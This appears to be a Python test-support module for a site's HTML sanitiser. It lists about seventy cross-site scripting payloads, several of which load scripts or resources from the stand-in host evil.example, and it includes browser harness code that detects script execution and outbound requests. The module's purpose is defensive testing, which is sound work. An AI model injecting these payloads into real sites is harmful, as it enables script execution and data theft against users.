"""Text written to run where it is shown, and the instruments that tell whether it did."""

import os
import random
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from playwright.sync_api import BrowserContext, Dialog, Error, Page, ProxySettings

from tests.articles.text.test_sanitise_corpora import FILES, payloads

#: So many of the public payloads a short run takes, chosen anew by SEED; the long run takes them all.
SAMPLE = 150
SEED = int(os.environ.get("SEED", random.randrange(10**6)))

#: One of every kind we thought of ourselves. Each says alert(1) if it runs, or fetches from a host that is not ours.
OWN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/a.png 1x' src=data:,>",
    "<picture><source srcset=//evil.example/b.png><img></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>text</text></a></svg>",
    "<svg><use href='//evil.example/s.svg#x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><a xlink:href='javascript:alert(1)'>text</a></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<applet code=x archive=//evil.example/x.jar></applet>",
    "<a href='javascript:alert(1)'>text</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>text</a>",
    "<a href='&#1;javascript:alert(1)'>text</a>",
    "<a href='java\tscript:alert(1)'>text</a>",
    "<a href='java&#10;script:alert(1)'>text</a>",
    "<a href='vbscript:msgbox(1)'>text</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>text</a>",
    "<a onclick=alert(1) href='/'>text</a>",
    "<p onmouseover=alert(1)>text</p>",
    "<p style='background:url(//evil.example/bg.png)'>text</p>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>text</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/prefetch>",
    "<base href=//evil.example/><a href=x>text</a><img src=y>",
    "<form action='javascript:alert(1)'><button>text</button></form>",
    "<form action=//evil.example/><button>text</button></form>",
    "<button formaction='javascript:alert(1)' form=x>text</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>text</details>",
    "<marquee onstart=alert(1)>text</marquee>",
    "<video src=//evil.example/v.mp4 onerror=alert(1)></video>",
    "<video poster=//evil.example/poster.png></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "<p contenteditable onpaste=alert(1) tabindex=1 onfocusin=alert(1) id=x>text</p>",
    "<keygen autofocus onfocus=alert(1)>",
    "<oembed>javascript:alert(1)</oembed>",
    "<p data-cke-realelement='%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'>text</p>",
    "<x-element onanimationstart=alert(1) style='animation-name:rotation'></x-element>",
]

#: Whatever a payload calls to show itself leaves a line on the console instead.
CANARY = """
for (const name of ["alert", "confirm", "prompt", "print", "open", "msgbox"]) {
    window[name] = () => console.log("canary sang: " + name);
}
"""

#: What hands and eyes would do: pass over, press, focus. Links and forms that lead away are not followed.
POKE = """
() => {
    const leads = (place) => String(place?.baseVal ?? place ?? "").toLowerCase();
    const stay = (event, where) => where.startsWith("javascript:") || event.preventDefault();
    const pokeAll = (page) => {
        page.addEventListener("click", event => {
            const link = event.target.closest?.("a, area");
            if (link) stay(event, leads(link.href));
        }, true);
        const goal = (event) => leads(event.submitter?.formAction ?? event.target.action);
        page.addEventListener("submit", event => stay(event, goal(event)), true);
        const root = page.querySelector("main, body.cke_editable") ?? page.body;
        for (const element of [...(root?.querySelectorAll("*") ?? [])].slice(0, 4000)) {
            if (element.closest("#story-form, .ask, .cke, [data-print]:not(.body *)")) continue;
            for (const kind of ["mouseover", "mouseenter", "mousedown", "focus", "focusin", "toggle", "paste"]) {
                element.dispatchEvent(new Event(kind, {bubbles: true}));
            }
            element.click?.();
            element.focus?.();
        }
        for (const frame of page.querySelectorAll("iframe, object, embed")) {
            let inside = null;
            try { inside = frame.contentDocument; } catch { /* another site's */ }
            if (inside) pokeAll(inside);
        }
    };
    pokeAll(document);
}
"""

#: What must not be in any page, whether or not it has run yet.
TRACES = """
() => {
    const root = document.querySelector("main, body.cke_editable") ?? document.body;
    const found = [];
    for (const element of root.querySelectorAll("*")) {
        // The editor's own furniture has handlers; its policy and its inline ways are the editor page's alone.
        if (element.closest(".cke")) continue;
        for (const {name, value} of element.attributes) {
            if (/^on/i.test(name)) found.push(element.outerHTML.slice(0, 200));
            if (/^[\\s\\x00-\\x20]*(javascript|vbscript|data)\\s*:/i.test(value) && /href|src|action|data/i.test(name))
                found.push(element.outerHTML.slice(0, 200));
        }
    }
    return found;
}
"""


def sampled() -> list[str]:
    """Public payloads, where NEWSROOM_CORPORA names them: a few by SEED, or all in the long run."""
    folder = os.environ.get("NEWSROOM_CORPORA", "")
    if not folder:
        return []
    found = sorted({text for name in FILES for text in payloads(Path(folder) / "xss" / name) if text.strip()})
    if os.environ.get("LONG_RUN"):
        return found
    return random.Random(SEED).sample(found, SAMPLE)


class WayOut(ThreadingHTTPServer):
    """The only way to any other host: it notes who came along, and lets nobody through. A context from start to end."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Turnstile)
        self.came: list[str] = []

    @property
    def proxy(self) -> ProxySettings:
        return {"server": f"http://127.0.0.1:{self.server_port}", "bypass": "127.0.0.1"}

    def __enter__(self) -> "WayOut":
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_exception) -> None:
        self.shutdown()
        self.server_close()


class Turnstile(BaseHTTPRequestHandler):
    def refuse(self) -> None:
        self.server.came.append(f"{self.command} {self.path}")
        self.send_error(502)

    do_GET = do_POST = do_HEAD = do_PUT = do_OPTIONS = do_CONNECT = refuse

    def log_message(self, *_words) -> None:
        """Nothing is printed: `came` has it all."""


class Watch:
    """What happened in a browser context that should not: scripts that ran, requests that left the site."""

    def __init__(self, context: BrowserContext, way_out: WayOut) -> None:
        self.way_out = way_out
        self.ran: list[str] = []
        context.add_init_script(CANARY)
        context.on("console", lambda said: self.ran.append(said.text) if "canary sang" in said.text else None)
        context.on("dialog", self._answer)

    def _answer(self, dialog: Dialog) -> None:
        if dialog.type != "beforeunload":
            self.ran.append(f"dialog: {dialog.message}")
        dialog.accept()

    def take(self) -> list[str]:
        """All that happened since the last time."""
        seen = [*self.ran, *self.way_out.came]
        self.ran.clear()
        self.way_out.came.clear()
        return seen


def poke(page: Page) -> None:
    """Every element on the page and in the frames it can reach has been passed over, pressed and focused."""
    try:
        page.evaluate(POKE)
    except Error as fault:
        # A text that leads the reader away does so while it is poked; the way out tells where to.
        if "navigation" not in str(fault):
            raise
    page.wait_for_timeout(20)


def visit(page: Page, address: str) -> None:
    """The page is open, wherever the one before it was leading."""
    try:
        page.goto(address)
    except Error:
        page.goto("about:blank")
        page.goto(address)


def culprits(texts: list[str], happens: Callable[[list[str]], list[str]]) -> dict[str, list[str]]:
    """One of the texts that make it happen, with what happened: halves are tried until one is left."""
    seen = happens(texts)
    if not seen:
        return {}
    if len(texts) == 1:
        return {texts[0]: seen}
    middle = len(texts) // 2
    found = culprits(texts[:middle], happens) or culprits(texts[middle:], happens)
    return found or {"only together: " + " ".join(texts)[:2000]: seen}
